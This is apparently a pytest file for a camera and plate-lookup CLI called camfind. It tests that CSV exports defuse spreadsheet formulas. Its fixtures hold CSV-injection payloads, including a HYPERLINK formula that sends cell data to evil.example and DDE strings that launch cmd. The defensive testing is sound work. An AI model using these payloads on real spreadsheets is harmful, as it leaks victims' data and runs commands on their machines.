"""Every CSV camfind writes (`cameras list --csv`, `export timeline` and the package's timeline,
`plates batch`) neutralises cells a spreadsheet would run; the JSON outputs keep the text as it is."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from cli_run import run, run_json

from camfind.csvsafe import original_cell

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Camera B")'
OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
ADDRESS = "+84 Nguyen Trai"
LABEL = "=cmd|' /C calc'!A0"
NOTE = "-2+3"

#: These tests copy or damage the index file itself.
pytestmark = pytest.mark.sqlite_file



@pytest.fixture
def hostile(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the street index whose camera B and a new camera carry formula-like text."""
    copy = tmp_path / "case.db"
    shutil.copyfile(db, copy)
    monkeypatch.setenv("CAMFIND_DB", str(copy))
    b = next(c for c in run_json("cameras", "list") if c["id"] == "B")
    cams = tmp_path / "cams.csv"
    with cams.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "name", "lat", "lon", "owner_name", "address", "clock_offset_s"])
        w.writerow(["B", NAME, b["lat"], b["lon"], OWNER, ADDRESS, b["clock_offset_s"]])
        w.writerow(["SOUTH", "-12.5", "-12.5", "-45.25", "", "", "-3.5"])
    assert run("cameras", "import", cams).exit_code == 0
    return copy


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cameras_list_csv(hostile: Path) -> None:
    listed = run("cameras", "list", "--csv")
    assert listed.exit_code == 0, listed.stderr
    rows = {r["id"]: r for r in _csv(listed.stdout)}
    assert (rows["B"]["name"], rows["B"]["owner_name"], rows["B"]["address"]) == ("'" + NAME, "'" + OWNER,
                                                                                  "'" + ADDRESS)
    assert original_cell(rows["B"]["name"]) == NAME
    south = rows["SOUTH"]
    assert (south["lat"], south["lon"], south["clock_offset_s"], south["name"]) == ("-12.5", "-45.25", "-3.5",
                                                                                    "-12.5")
    as_json = {c["id"]: c for c in run_json("cameras", "list")}
    assert as_json["B"]["name"] == NAME and as_json["SOUTH"]["lat"] == -12.5


def test_timeline_and_package(hostile: Path, tmp_path: Path) -> None:
    streamed = run("export", "timeline", "--camera", "B")
    assert streamed.exit_code == 0, streamed.stderr
    out = tmp_path / "t.csv"
    assert run("export", "timeline", "--camera", "B", "--out", out).exit_code == 0
    pkg = tmp_path / "pkg"
    assert run("export", "timeline", "--camera", "B", "--package", pkg, "--margin", "0").exit_code == 0
    for text in (streamed.stdout, out.read_text(encoding="utf-8"), (pkg / "timeline.csv").read_text(encoding="utf-8")):
        rows = _csv(text)
        assert rows and all(r["camera_name"] == "'" + NAME and r["owner_name"] == "'" + OWNER for r in rows)
        assert all(not r["time_local"].startswith("'") and float(r["confidence"]) > 0 for r in rows)


def test_plates_batch(hostile: Path, tmp_path: Path) -> None:
    watch = tmp_path / "watch.csv"
    with watch.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["plate", "label", "note"], ["51F-123.45", LABEL, NOTE]])
    result = run("plates", "batch", watch)
    assert result.exit_code == 0, result.stderr
    rows = _csv(result.stdout)
    assert rows and all((r["label"], r["note"]) == ("'" + LABEL, "'" + NOTE) for r in rows)
    out = tmp_path / "hits.csv"
    assert run("plates", "batch", watch, "--out", out).exit_code == 0
    assert _csv(out.read_text(encoding="utf-8")) == rows
    assert {(h["label"], h["note"]) for h in run_json("plates", "batch", watch)} == {(LABEL, NOTE)}
